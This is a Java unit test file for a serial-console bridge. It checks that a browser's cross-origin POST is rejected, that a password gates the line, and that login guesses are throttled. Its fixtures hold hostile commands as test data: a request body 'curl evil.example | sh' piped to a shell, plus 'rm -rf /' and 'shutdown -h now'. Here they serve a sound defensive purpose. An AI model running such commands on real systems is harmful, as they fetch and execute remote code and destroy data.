package org.jnetstack.apps.serial;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.jnetstack.testing.Nanos.SECOND;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.function.BooleanSupplier;
import org.jnetstack.NetStack;
import org.jnetstack.apps.appliance.ConfigException;
import org.jnetstack.apps.appliance.ConfigReader;
import org.jnetstack.apps.appliance.PasswordHash;
import org.jnetstack.apps.appliance.TomlDocument;
import org.jnetstack.apps.serial.SerialBridgeTest.Console;
import org.jnetstack.apps.serial.SerialBridgeTest.TestLine;
import org.jnetstack.link.VirtualWire;
import org.jnetstack.loop.EventLoop;
import org.jnetstack.wire.Ipv4Address;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * Who may reach the line: a browser's cross-origin POST never does, and with a password nothing
 * a client types does before it gave the password. Every "nothing reached the line" is shown by
 * a later client's input arriving first and alone (the writer keeps the order of what it is given).
 */
class SerialConsoleGuardTest {
    private static final int SERVER = Ipv4Address.parseBits("10.0.0.2");
    private static final String PASSWORD = "correct horse battery";
    private static final String POST = "POST / HTTP/1.1\r\nHost: appliance:1234\r\nOrigin: http://evil.example\r\n"
            + "Content-Type: text/plain\r\nContent-Length: 24\r\n\r\ncurl evil.example | sh\r\n";

    private final EventLoop loop = EventLoop.virtual();
    private final VirtualWire wire = new VirtualWire();
    private final NetStack clientStack = NetStack.builder(loop).name("client").device(wire.a()).address("10.0.0.1/24").seed(1).build();
    private final NetStack serverStack = NetStack.builder(loop).name("server").device(wire.b()).address("10.0.0.2/24").seed(2).build();
    private final TestLine line = new TestLine();
    private SerialBridge bridge;

    @AfterEach
    void closeBridge() {
        if (bridge != null) {
            bridge.close();
        }
    }

    private void start(SerialBridgeOptions options) throws IOException {
        bridge = SerialBridge.start(serverStack, line, options);
    }

    private Console connect() {
        Console c = new Console();
        c.conn = clientStack.tcp().connect(SERVER, SerialBridgeOptions.DEFAULT_PORT, c);
        assertThat(loop.runUntil(() -> c.connected, 10 * SECOND)).isTrue();
        loop.runFor(SECOND / 10);
        return c;
    }

    private void await(BooleanSupplier done) {
        long deadline = System.nanoTime() + 20 * SECOND;
        while (!done.getAsBoolean()) {
            assertThat(System.nanoTime()).as("condition within 20 s").isLessThan(deadline);
            loop.runFor(SECOND / 100);
            Thread.onSpinWait();
        }
    }

    private String written() {
        return new String(line.written(), StandardCharsets.ISO_8859_1);
    }

    private long counter(String name) {
        return serverStack.counters().get(name);
    }

    /** A client that may type types {@code canary}; when it arrives, everything queued before it has been written. */
    private void canaryArrivesAlone(String canary) {
        Console c = connect();
        if (bridge.options().password() != null) {
            c.type(PASSWORD + "\r\n");
            await(() -> c.got.toString().contains("Password: \r\n"));
        }
        c.type(canary);
        await(() -> written().endsWith(canary));
        assertThat(written()).as("nothing reached the line before the canary").isEqualTo(canary);
    }

    @Test
    void aBrowsersPostIsDisconnectedWithNothingReachingTheLine() throws IOException {
        start(SerialBridgeOptions.defaults());
        Console browser = connect();

        browser.type(POST);
        loop.runFor(5 * SECOND);

        assertThat(browser.error).as("reset by the bridge").isNotNull();
        assertThat(counter("serial.clients.http_rejected")).isEqualTo(1);
        assertThat(bridge.status().clients()).isZero();
        assertThat(line.written()).isEmpty();
        canaryArrivesAlone("ok\n");
    }

    @Test
    void aRequestArrivingInPiecesIsHeldUntilItShowsWhatItIs() throws IOException {
        start(SerialBridgeOptions.defaults());
        Console browser = connect();

        browser.type("GE");
        loop.runFor(SerialBridge.PROBE_NANOS / 4);
        browser.type("T /favicon.ico HTTP/1.1\r\n\r\n");
        loop.runFor(5 * SECOND);

        assertThat(browser.error).isNotNull();
        assertThat(counter("serial.clients.http_rejected")).isEqualTo(1);
        canaryArrivesAlone("still fine\n");
    }

    @Test
    void consoleTypingIsNotHeldAndAnUpperCaseStartIsReleasedAfterTheProbeTime() throws IOException {
        start(SerialBridgeOptions.defaults());
        Console person = connect();
        person.type("ls -l\n");
        await(() -> written().equals("ls -l\n"));

        Console shouter = connect();
        shouter.type("HALT"); // could still become "HALT / HTTP/1.1": held, then released when nothing more comes
        loop.runFor(SerialBridge.PROBE_NANOS / 2);
        assertThat(written()).isEqualTo("ls -l\n");
        await(() -> written().equals("ls -l\nHALT"));
        shouter.type(" NOW\n"); // decided already: a space now is just typing
        await(() -> written().equals("ls -l\nHALT NOW\n"));
        assertThat(counter("serial.clients.http_rejected")).isZero();
        assertThat(shouter.error).isNull();
    }

    @Test
    void withAPasswordNothingTypedBeforeItReachesTheLineAndEverythingAfterDoes() throws IOException {
        start(SerialBridgeOptions.defaults().withPassword(SerialPassword.plain(PASSWORD)));
        Console c = connect();
        await(() -> c.got.toString().equals("Password: "));

        c.type("reboot\r\n");
        loop.runFor(SerialBridge.WRONG_PASSWORD_DELAY_NANOS / 2);
        assertThat(c.got.toString()).isEqualTo("Password: \r\n");
        c.type(PASSWORD + "\r\nwhoami\r\n"); // typed during the wait: read only after it
        await(() -> written().equals("whoami\r\n"));

        assertThat(c.got.toString()).isEqualTo("Password: \r\nWrong password.\r\nPassword: \r\n");
        assertThat(counter("serial.login.failed")).isEqualTo(1);
        assertThat(counter("serial.login.succeeded")).isEqualTo(1);
        assertThat(bridge.clients()).extracting(SerialBridge.ClientInfo::mayType).containsExactly(true);
    }

    @Test
    void anUnauthenticatedTypistNeverReachesTheLineAndIsDisconnectedAfterTheTries() throws IOException {
        start(SerialBridgeOptions.defaults().withPassword(SerialPassword.plain(PASSWORD)).withLoginTries(3));
        Console typist = connect();

        typist.type("rm -rf /\nshutdown -h now\nhunter22\nid\n");
        loop.runFor(10 * SECOND);

        assertThat(typist.got.toString()).endsWith("Wrong password. Disconnecting.\r\n");
        assertThat(typist.eof || typist.error != null).as("disconnected").isTrue();
        assertThat(counter("serial.login.failed")).isEqualTo(3);
        assertThat(counter("serial.login.disconnected")).isEqualTo(1);
        assertThat(bridge.status().clients()).isZero();
        assertThat(line.written()).isEmpty();
        canaryArrivesAlone("date\n");
    }

    @Test
    void anUnauthenticatedClientSeesOutputOnlyWhenReadIsOpen() throws IOException {
        start(SerialBridgeOptions.defaults().withPassword(SerialPassword.plain(PASSWORD)).withOutputNeedsLogin(true));
        line.emit("before\n".getBytes());
        loop.runFor(SECOND / 10);
        Console c = connect();
        line.emit("secret output\n".getBytes());
        loop.runFor(SECOND);
        assertThat(c.got.toString()).isEqualTo("Password: ");

        c.type(PASSWORD + "\n");
        await(() -> c.got.toString().endsWith("before\nsecret output\n"));
        assertThat(c.got.toString()).isEqualTo("Password: \r\nbefore\nsecret output\n");
        line.emit("live\n".getBytes());
        await(() -> c.got.toString().endsWith("live\n"));
    }

    @Test
    void aHashedPasswordIsCheckedOffTheLoop() throws IOException {
        start(SerialBridgeOptions.defaults().withPassword(SerialPassword.hashed(PasswordHash.hash(PASSWORD))));
        Console c = connect();
        c.type("wrong one\n");
        await(() -> counter("serial.login.failed") == 1);
        c.type(PASSWORD + "\nuptime\n");
        await(() -> written().equals("uptime\n"));
        assertThat(counter("serial.login.succeeded")).isEqualTo(1);
    }

    @Test
    void manyConnectionsGuessingShareOneThrottleAndTheOwnerStillGetsInSoon() throws IOException {
        start(SerialBridgeOptions.defaults().withPassword(SerialPassword.plain(PASSWORD)));
        int guessers = 40;
        java.util.List<Console> attackers = new java.util.ArrayList<>();
        for (int i = 0; i < guessers; i++) {
            attackers.add(connect());
        }
        for (int i = 0; i < guessers; i++) {
            attackers.get(i).type("guess-" + i + "-a\nguess-" + i + "-b\nguess-" + i + "-c\n");
        }
        long start = loop.clock().nanos();
        loop.runFor(SECOND);

        long interval = SerialBridge.LOGIN_INTERVAL_NANOS;
        assertThat(counter("serial.login.failed")).as("the burst, then one check per interval for all connections")
                .isBetween((long) SerialBridge.LOGIN_BURST, SerialBridge.LOGIN_BURST + SECOND / interval + 1);
        assertThat(counter("serial.login.throttled")).isGreaterThanOrEqualTo(guessers - SerialBridge.LOGIN_BURST);

        // The owner comes while the guessers' checks keep the queue full: it waits its turn, no longer.
        Console owner = connect();
        owner.type(PASSWORD + "\nuptime\n");
        long ownerStart = loop.clock().nanos();
        // Timed to the check itself (on the loop, in virtual time), not to the line's writer
        // thread, whose real-time pace would let virtual time run on while it writes.
        await(() -> counter("serial.login.succeeded") == 1);
        long waited = loop.clock().nanos() - ownerStart;
        assertThat(waited).as("at most one interval per client queued before it").isLessThanOrEqualTo((guessers + 1) * interval);
        await(() -> written().equals("uptime\n"));
        assertThat(counter("serial.login.succeeded")).isEqualTo(1);

        await(() -> counter("serial.login.failed") == 3L * guessers);
        long elapsed = loop.clock().nanos() - start;
        assertThat(elapsed).as("120 guesses took at least (120 - burst) intervals")
                .isGreaterThanOrEqualTo((3L * guessers - SerialBridge.LOGIN_BURST - 1) * interval);
        assertThat(counter("serial.login.disconnected")).isEqualTo(guessers);
        assertThat(line.written()).isEqualTo("uptime\n".getBytes());
        System.out.printf("login throttle: %d guesses over %d ms of virtual time; the owner waited %d ms%n", 3 * guessers,
                elapsed / 1_000_000, waited / 1_000_000);
    }

    @Test
    void theLoginThrottleGivesABurstThenOneCheckPerIntervalAndTakesACorrectOneBack() {
        LoginThrottle t = new LoginThrottle(3, 100, 0);
        assertThat(t.tryTake(0)).isTrue();
        assertThat(t.tryTake(0)).isTrue();
        assertThat(t.tryTake(0)).isTrue();
        assertThat(t.tryTake(0)).isFalse();
        assertThat(t.nextAt(0)).isEqualTo(100);
        assertThat(t.tryTake(99)).isFalse();
        assertThat(t.tryTake(100)).isTrue();
        assertThat(t.tryTake(100)).isFalse();
        t.refund(100);
        assertThat(t.tryTake(100)).as("a correct password's check given back").isTrue();
        assertThat(t.tryTake(10_000)).as("idle: the burst is back").isTrue();
        assertThat(t.tryTake(10_000)).isTrue();
        assertThat(t.tryTake(10_000)).isTrue();
        assertThat(t.tryTake(10_000)).isFalse();
    }

    @Test
    void theProbeDecidesFromAMethodTokenASpaceAndATarget() {
        for (String http : new String[] {"GET / HTTP/1.1", "POST /api", "PUT /x", "OPTIONS * HTTP/1.1", "HEAD /",
            "DELETE /a", "PATCH /b", "CONNECT example.com:443 HTTP/1.1", "GET http://x/", "PROPFIND /dav"}) {
            assertThat(classify(http)).as(http).isEqualTo(HttpProbe.Verdict.HTTP);
        }
        for (String console : new String[] {"ls\n", "\r\n", "get / http/1.1", "\u00ff\u00fb\u0001", "GET\t/", "A  b",
            "GET  /", " GET /", "ABCDEFGHIJKLMNOPQRSTUVWXYZ /"}) {
            assertThat(classify(console)).as(console).isEqualTo(HttpProbe.Verdict.NOT_HTTP);
        }
        for (String undecided : new String[] {"", "G", "POS", "GET "}) {
            assertThat(classify(undecided)).as(undecided).isEqualTo(HttpProbe.Verdict.UNDECIDED);
        }
    }

    private static HttpProbe.Verdict classify(String s) {
        byte[] b = s.getBytes(StandardCharsets.ISO_8859_1);
        return HttpProbe.classify(b, b.length);
    }

    @Test
    void theConfigFileSetsThePasswordAndChecksIt() {
        String base = "[interface]\nname = \"jns0\"\n[addressing]\naddress = \"10.0.0.2/24\"\n[serial]\ndevice = \"-\"\n";
        SerialBridgeOptions o = SerialApplianceService.settingsOf(ConfigReader.read(TomlDocument.parse(
                base + "password = \"" + PASSWORD + "\"\nread = \"authenticated\"\n"))).options();
        assertThat(o.password()).isEqualTo(SerialPassword.plain(PASSWORD));
        assertThat(o.outputNeedsLogin()).isTrue();
        assertThat(SerialApplianceService.settingsOf(ConfigReader.read(TomlDocument.parse(base))).options().password()).isNull();

        assertThat(problems(base + "password = \"short\"\n"))
                .containsExactly("[serial] password = \"...\" (line 7): too short: expected at least 8 characters");
        assertThat(problems(base + "read = \"authenticated\"\n")).singleElement().asString()
                .startsWith("[serial] read = \"authenticated\" (line 7): needs a password");
        assertThat(problems(base + "password_hash = \"x\"\n")).singleElement().asString()
                .startsWith("[serial] password_hash = \"x\" (line 7): expected a hash in the form");
        assertThat(problems(base + "password = \"" + PASSWORD + "\"\npassword_hash = \"" + PasswordHash.hash(PASSWORD) + "\"\n"))
                .containsExactly("[serial] password and password_hash are both set: expected one");
    }

    private static java.util.List<String> problems(String text) {
        return catchThrowableOfType(ConfigException.class, () -> ConfigReader.read(TomlDocument.parse(text))).problems();
    }
}
